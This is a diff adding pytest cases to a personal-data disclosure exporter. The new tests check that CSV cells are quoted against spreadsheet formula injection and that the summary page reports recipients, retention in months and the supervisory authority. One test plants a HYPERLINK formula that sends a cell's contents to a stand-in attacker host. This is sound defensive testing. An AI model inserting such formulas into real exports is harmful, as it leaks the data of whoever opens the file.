@@ -7,6 +7,7 @@ import os
 import subprocess
 import sys
 import zipfile
+from dataclasses import replace
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 
@@ -16,6 +17,7 @@ from jobs.platform.database import connect
 from jobs.rights.disclosure import disclose
 from jobs.rights.disclosure.disclose import AmberError, Wish
 from jobs.rights.disclosure.rows import ASKED, KEYED, OTHERS, YOU, Known
+from jobs.rights.disclosure.summary import summary
 from jobs.rights.finding.find import find
 from jobs.rights.finding.found import Findings
 from jobs.rights.finding.subject import subject_of
@@ -143,6 +145,22 @@ def test_a_cell_that_a_spreadsheet_would_calculate_is_quoted_where_anybody_types
     assert ",+33 6 98 76 54 32," in files["platform/professional_users.csv"]
 
 
+@pytest.mark.parametrize(("table", "column"), [
+    ("activity", "user_agent"), ("security_events", "user_agent"), ("professional_users", "family_name"),
+    ("third_party_profiles", "attribute"),
+])  # fmt: skip
+def test_it_is_quoted_in_every_column_that_has_no_closed_list_of_values(full, table, column):
+    formula = '=HYPERLINK("https://evil.example/?"&A2)'
+    full.write(
+        "third_party_profiles", user_id=ADA, provider="a", attribute="b", value="c", obtained_at=f"{DAY} 09:00:00"
+    )
+    full.change(f"UPDATE {table} SET {column} = ? WHERE user_id = ?", formula, ADA)
+    _, files = made(full)
+    cells = {row[column] for row in csv.DictReader(io.StringIO(files[f"platform/{table}.csv"]))}
+    assert cells == {f"'{formula}"}
+    assert {row[column] for row in json.loads(files[f"platform/{table}.json"])} == {formula}
+
+
 def test_the_summary_says_what_why_on_which_basis_until_when_and_who_received_it(full, ledger):
     for day in ("2026-02-09", "2026-02-10"):
         ledger.append("exported", release="partner_threat_events", day=day, recipient="threat_partner")
@@ -156,6 +174,27 @@ def test_the_summary_says_what_why_on_which_basis_until_when_and_who_received_it
     short = made(full, "portability")[1]["summary.html"]
     assert "article 20" in short
     assert "Lémanique" not in short
+    for each in (page, short):
+        assert "<b>phone</b>: telephone number of the account holder" in each
+        assert "ours is CNIL, 3 place de Fontenoy" in each
+
+
+def test_the_summary_counts_a_recipients_days_by_release_and_takes_no_years_for_months(full, ledger, promise):
+    contract = promise.exports["partner_threat_events"]
+    second = contract.model_copy(update={"release": "second_copy", "title": "A second copy"})
+    register = promise.register.model_copy(update={"authority": ""})
+    exports = {**promise.exports, "second_copy": second}
+    for release, days in (("partner_threat_events", ("2026-02-09", "2026-02-10")), ("second_copy", ("2026-02-10",))):
+        for day in days:
+            ledger.append("exported", release=release, day=day, recipient="threat_partner")
+    said = replace(promise, register=register, exports=exports)
+    page = summary(said, "access", [], Findings((), (), 0), ledger, datetime.now(UTC))
+    assert f"{contract.title}, copies of 2 days on record; A second copy, copies of 1 days on record" in page
+    assert "Kept until 18 months after" in page
+    assert "supervisory authority where you live (clause 9.3)" in page
+    years = replace(promise, register=promise.register.model_copy(update={"relationship_keep": "P2Y"}))
+    with pytest.raises(ValueError, match="whole months"):
+        summary(years, "access", [], Findings((), (), 0), ledger, datetime.now(UTC))
 
 
 def test_the_package_is_closed_to_others_and_its_bytes_can_be_searched(full, promise):
